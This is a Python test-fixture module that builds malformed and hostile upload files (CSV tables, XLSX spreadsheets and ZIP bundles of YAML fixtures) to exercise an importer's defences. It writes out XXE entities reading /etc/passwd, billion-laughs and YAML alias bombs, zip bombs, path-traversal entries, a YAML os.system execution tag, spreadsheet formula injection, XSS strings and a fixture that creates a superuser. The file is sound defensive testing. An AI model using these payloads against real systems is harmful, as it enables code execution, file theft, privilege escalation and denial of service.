"""Files that no editor would send, by name: tables, spreadsheets and bundles. Each is made when it is asked for."""

import struct
import zipfile
from collections.abc import Callable, Mapping
from functools import partial
from io import BytesIO
from itertools import pairwise

Make = Callable[[], bytes]

HEAD = "slug,name,kind\n"
ROW = "wire,The Wire,newspaper\n"
RECORD = "- model: incidents.source\n  fields:\n    slug: new-herald\n    name: The New Herald\n    kind: newspaper\n"
LAUGHS = '<!DOCTYPE x [<!ENTITY a0 "ha">{}]>'.format(
    "".join(f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 10))
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
ELSEWHERE = '<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd">'
SHEET = """<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>"""
CELL = '<c r="{}" t="inlineStr"><is><t>{}</t></is></c>'
WORKBOOK = (
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="one" sheetId="1" r:id="r1"/></sheets></workbook>'
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
    ' Target="{}"/></Relationships>'
)
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/xl/workbook.xml"'
    ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)


def packed(files: Mapping[str, str | bytes]) -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return made.getvalue()


def spreadsheet(
    *, rows: str = "", sheet: str = "", workbook: str = WORKBOOK, target: str = "worksheets/sheet1.xml", **more: str
) -> bytes:
    """An .xlsx file with a head, made of as little as its readers take."""
    head = "".join(CELL.format(*cell) for cell in (("A1", "slug"), ("B1", "name"), ("C1", "kind")))
    body = sheet or SHEET.format(f'<row r="1">{head}</row>{rows}')
    parts = {"[Content_Types].xml": TYPES, "xl/workbook.xml": workbook, "xl/worksheets/sheet1.xml": body}
    return packed({**parts, "xl/_rels/workbook.xml.rels": RELATIONS.format(target), **more})


def row(number: int, *cells: str) -> str:
    written = (CELL.format(f"{letter}{number}", cell) for letter, cell in zip("ABC", cells, strict=True))
    return f'<row r="{number}">{"".join(written)}</row>'


def bundle(fixture: str | bytes, *, name: str = "fixtures/1_sources.yaml", **more: str) -> bytes:
    return packed({name: fixture, **more})


def lines(text: str, times: int) -> bytes:
    return (HEAD + "".join(text.replace("#", str(number)) for number in range(times))).encode()


def lying(content: bytes, *, size: int) -> bytes:
    """The archive, saying in both places that its first file unpacks to so many bytes."""
    made = bytearray(content)
    struct.pack_into("<L", made, 22, size)
    struct.pack_into("<L", made, made.index(b"PK\x01\x02") + 24, size)
    return bytes(made)


def locked(content: bytes) -> bytes:
    """The archive, saying that its first file is encrypted."""
    made = bytearray(content)
    made[6] |= 1
    made[made.index(b"PK\x01\x02") + 8] |= 1
    return bytes(made)


def deep(opening: str, closing: str, times: int) -> str:
    return f"- {opening * times}x{closing * times}\n"


def bomb() -> str:
    """Nine lists, each of nine times the one before."""
    names = "abcdefghi"
    steps = [f"{name}: &{name} [{','.join([f'*{before}'] * 9)}]" for before, name in pairwise(names)]
    return "\n".join(["a: &a [ha]", *steps]) + "\n"


TABLES: dict[str, Make] = {
    "empty.csv": lambda: b"",
    "spaces.csv": lambda: b" \r\n" * 500,
    "mark_only.csv": lambda: b"\xef\xbb\xbf",
    "head_only.csv": lambda: HEAD.encode(),
    "latin1.csv": lambda: f"{HEAD}wire,M\xfcller,newspaper\n".encode("latin-1"),
    "utf16.csv": lambda: f"{HEAD}{ROW}".encode("utf-16"),
    "utf32.csv": lambda: f"{HEAD}{ROW}".encode("utf-32"),
    "overlong.csv": lambda: HEAD.encode() + b"wire,\xc0\xaf,newspaper\n",
    "surrogate.csv": lambda: HEAD.encode() + b"wire,\xed\xa0\x80,newspaper\n",
    "nul.csv": lambda: f"{HEAD}wire,a\0b,newspaper\n".encode(),
    "controls.csv": lambda: f"{HEAD}wire,a\x07\x1b[2Jb,newspaper\n".encode(),
    "bidi.csv": lambda: f"{HEAD}wi\u202ere,The \u202egnp.exe,newspaper\n".encode(),
    "no_key.csv": lambda: b"name,kind\nThe Wire,newspaper\n",
    "unknown_column.csv": lambda: b"slug,password\nwire,x\n",
    "status_column.csv": lambda: b"slug,name,kind,status\nwire,The Wire,newspaper,published\n",
    "id_column.csv": lambda: b"id,slug,name,kind\n1,wire,The Wire,newspaper\n",
    "column_twice.csv": lambda: b"slug,name,NAME,kind\nwire,A,B,newspaper\n",
    "nameless_column.csv": lambda: b"slug,,kind\nwire,A,newspaper\n",
    "row_twice.csv": lambda: f"{HEAD}{ROW}{ROW}".encode(),
    "ragged.csv": lambda: f"{HEAD}wire\nwire-two,a,newspaper,b,c\n".encode(),
    "open_quote.csv": lambda: f'{HEAD}wire,"The Wire,newspaper\n'.encode(),
    "stray_quote.csv": lambda: f'{HEAD}wire,The "Wire" x"y,newspaper\n"a"b,c,d\n'.encode(),
    "bad_words.csv": lambda: f"{HEAD}Not A Slug,,gossip\n../../etc,x,newspaper\n".encode(),
    "script.csv": lambda: f"{HEAD}wire,<script>alert(1)</script>,<img src=x onerror=alert(1)>\n".encode(),
    "script_address.csv": lambda: b"slug,name,kind,homepage\nwire,The Wire,newspaper,javascript:alert(1)\n",
    "template.csv": lambda: f"{HEAD}{{{{7*7}}}},{{% debug %}},%(x)s%n\n".encode(),
    "numbers.csv": lambda: f"slug,name,kind,version\nwire,x,newspaper,{'9' * 5000}\nb,y,newspaper,NaN\n".encode(),
    "wide.csv": lambda: (",".join(["slug", *(f"c{number}" for number in range(2_000))]) + "\nx\n").encode(),
    "long_cell.csv": lambda: f"{HEAD}wire,{'x' * 200_000},newspaper\n".encode(),
    "long_line.csv": lambda: HEAD.encode() + b"x" * 9_000_000,
    "many_rows.csv": partial(lines, "wire-#,x,newspaper\n", 20_000),
    "many_faults.csv": partial(lines, "=#,x,gossip\n", 9_000),
    "many_quotes.csv": lambda: HEAD.encode() + b'"' * 3_000_001,
    "many_semicolons.csv": lambda: b"slug;" * 200_000 + b"\n",
    "many_returns.csv": lambda: HEAD.encode() + b"\r" * 3_000_000,
    "too_large.csv": lambda: HEAD.encode() + b"wire,x,newspaper\n" * 600_000,
    **{
        f"formula_{number}.csv": partial(lambda sign: f'{HEAD}wire,"{sign}1+1|cmd",newspaper\n'.encode(), sign)
        for number, sign in enumerate("=+-@\t\r", start=1)
    },
    "picture.csv": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40,
    "program.csv": lambda: b"\x7fELF" + bytes(range(256)) * 40,
}
SHEETS: dict[str, Make] = {
    "outside.xlsx": lambda: spreadsheet(workbook=OUTSIDE + WORKBOOK.replace('name="one"', 'name="&a;"')),
    "elsewhere.xlsx": lambda: spreadsheet(workbook=ELSEWHERE + WORKBOOK),
    "laughs.xlsx": lambda: spreadsheet(sheet=LAUGHS + SHEET.format(row(1, "&a9;", "x", "y"))),
    "laughs_in_strings.xlsx": lambda: spreadsheet(
        **{"xl/sharedStrings.xml": LAUGHS + "<sst><si><t>&a9;</t></si></sst>"}
    ),
    "outside_in_relations.xlsx": lambda: spreadsheet(target='/x"/>' + OUTSIDE + '<Relationship Id="r2" Target="x'),
    "grows.xlsx": lambda: spreadsheet(**{"xl/styles.xml": "<a>" + " " * 60_000_000 + "</a>"}),
    "many_parts.xlsx": lambda: spreadsheet(**{f"xl/worksheets/s{number}.xml": "<a/>" for number in range(3_000)}),
    "deep.xlsx": lambda: spreadsheet(sheet="<a>" * 200_000 + "</a>" * 200_000),
    "far_row.xlsx": lambda: spreadsheet(rows=row(1_048_576, "wire", "x", "newspaper")),
    "far_cell.xlsx": lambda: spreadsheet(rows='<row r="2"><c r="XFD2"><v>1</v></c></row>'),
    "no_cell.xlsx": lambda: spreadsheet(rows='<row r="2"><c r="ZZZZZZ99"><v>1</v></c></row>'),
    "huge_number.xlsx": lambda: spreadsheet(rows=f'<row r="2"><c r="A2"><v>{"9" * 5_000}</v></c></row>'),
    "no_number.xlsx": lambda: spreadsheet(rows='<row r="2"><c r="A2"><v>NaN</v></c><c r="B2"><v>1e999</v></c></row>'),
    "no_date.xlsx": lambda: spreadsheet(rows='<row r="2"><c r="A2" t="d"><v>2025-99-99</v></c></row>'),
    "no_string.xlsx": lambda: spreadsheet(rows='<row r="2"><c r="A2" t="s"><v>99999</v></c></row>'),
    "formula.xlsx": lambda: spreadsheet(
        rows='<row r="2"><c r="A2"><f>WEBSERVICE("http://127.0.0.1:1/"&amp;A1)</f><v>wire</v></c></row>'
    ),
    "upwards.xlsx": lambda: spreadsheet(target="../../../../etc/passwd"),
    "other_root.xlsx": lambda: spreadsheet(workbook="<html><script>alert(1)</script></html>"),
    "no_workbook.xlsx": lambda: packed({"a.xml": "<a/>"}),
    "cut_off.xlsx": lambda: spreadsheet()[:400],
    "locked.xlsx": lambda: locked(spreadsheet()),
    "lying.xlsx": lambda: lying(spreadsheet(), size=4_000_000_000),
    "old.xlsx": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_096),
    "sign_only.xlsx": lambda: b"PK\x03\x04" + b"\xff" * 4_096,
}
BUNDLES: dict[str, Make] = {
    "sound.zip": lambda: bundle(RECORD),
    "empty.zip": lambda: packed({}),
    "nothing.zip": lambda: b"",
    "no_zip.zip": lambda: b"PK\x03\x04 and no more",
    "cut_off.zip": lambda: bundle(RECORD)[:60],
    "locked.zip": lambda: locked(bundle(RECORD)),
    "lying.zip": lambda: lying(bundle(RECORD), size=10),
    "grows.zip": lambda: bundle(b"#" * 60_000_000),
    "grows_in_parts.zip": lambda: packed({f"seeds/{number}.txt": b" " * 7_900_000 for number in range(9)}),
    "many_files.zip": lambda: packed({f"seeds/{number}.txt": b"" for number in range(2_500)}),
    "upwards.zip": lambda: bundle(RECORD, **{"fixtures/../../../etc/cron.d/x": "x"}),
    "absolute.zip": lambda: bundle(RECORD, **{"/etc/passwd": "x"}),
    "backwards.zip": lambda: bundle(RECORD, **{"..\\..\\windows\\x.yaml": "x"}),
    "program.zip": lambda: bundle(RECORD, **{"fixtures/x.py": "import os"}),
    "hidden.zip": lambda: bundle(RECORD, **{"seeds/.htaccess": "x"}),
    "bundle_in_bundle.zip": lambda: packed({"fixtures/1.zip": bundle(RECORD)}),
    "too_large.zip": lambda: b"PK\x03\x04" + bytes(10_000_001),
    "table.zip": lambda: (HEAD + ROW).encode(),
}
# What a bundle may hold inside that is only found when it is looked through.
FIXTURES: dict[str, str | bytes] = {
    "python_object": "- !!python/object/apply:os.system ['id']\n",
    "python_name": "- model: !!python/name:os.system\n  fields: {}\n",
    "binary_tag": "- model: incidents.source\n  fields: !!binary aGE=\n",
    "aliases": bomb(),
    "one_alias": "- &a\n  model: incidents.source\n  fields: {slug: x}\n- *a\n",
    "endless_alias": "- &a [*a]\n",
    "merge_key": "- model: incidents.source\n  fields:\n    <<: {slug: x}\n",
    "deep_lists": deep("[", "]", 2_000),
    "deep_mappings": deep("{a: ", "}", 2_000),
    "two_documents": RECORD + "---\n" + RECORD,
    "no_list": "model: incidents.source\n",
    "just_text": "hello\n",
    "numbers": "- 1\n- 2.5\n- null\n- true\n",
    "nothing_in_it": "",
    "not_unicode": b"- model: \xff\xfe\n",
    "nul": "- model: incidents.source\n  fields:\n    slug: a\0b\n",
    "nul_escaped": '- model: incidents.source\n  fields:\n    slug: a\n    name: "a\\0b"\n    kind: newspaper\n',
    "surrogate_escaped": RECORD.replace("The New Herald", '"\\ud800"'),
    "tab": "- model:\tincidents.source\n\tfields: {}\n",
    "key_twice": RECORD + "    name: Another\n",
    "record_twice": RECORD + RECORD,
    "own_number": "- model: incidents.source\n  pk: 1\n  fields: {slug: new-herald, name: x, kind: newspaper}\n",
    "accounts": "- model: auth.user\n  fields: {username: intruder, is_superuser: true, is_staff: true}\n",
    "sessions": "- model: sessions.session\n  fields: {session_key: x}\n",
    "published_row": "- model: publication.publishedsource\n  fields: {slug: x}\n",
    "proposal": "- model: incidents.proposal\n  fields: {act: retract}\n",
    "no_model": "- fields: {slug: x}\n",
    "model_of_no_app": "- model: ../../etc/passwd\n  fields: {}\n",
    "unknown_field": RECORD + "    is_superuser: true\n",
    "hidden_field": RECORD + "    published_version: 7\n    version: 99\n",
    "bad_address": RECORD + "    homepage: javascript:alert(1)\n",
    "script": RECORD.replace("The New Herald", "<script>alert(1)</script>").replace("newspaper", "gossip"),
    "huge_number": "- model: incidents.place\n  fields: {slug: x, name: x, precision: 1, latitude: "
    + "9" * 5_000
    + "}\n",
    "no_number": "- model: incidents.place\n  fields: {slug: x, name: x, precision: .nan, latitude: .inf}\n",
    "long_text": RECORD.replace("The New Herald", "x" * 1_000_000),
    "many_faults": "".join(RECORD.replace("new-herald", f"Not {number}") for number in range(1_500)),
    "document_elsewhere": "- model: incidents.article\n  fields:\n    slug: x\n    source: [herald]\n    title: x\n"
    "    language: de\n    document: ../../../../etc/passwd\n",
    "reference_to_itself": "- model: incidents.event\n  fields: {slug: x, title: x, event_type: AID, part_of: [x]}\n",
    "reference_to_nothing": "- model: incidents.event\n  fields: {slug: x, title: x, part_of: [nothing-at-all]}\n",
    "reference_of_many": "- model: incidents.event\n  fields: {slug: x, title: x, part_of: [a, b, c]}\n",
    "quote_not_there": "- model: incidents.evidence\n  fields: {claim: [nothing-at-all], quote: x, start: -1}\n",
    "date_oddities": "- model: incidents.event\n  fields: {slug: x, title: x, event_type: AID, date: 2025-02-30/..}\n",
}
UPLOADS: dict[str, Make] = {
    **TABLES,
    **SHEETS,
    **BUNDLES,
    **{f"{name}.zip": partial(bundle, content) for name, content in FIXTURES.items()},
}
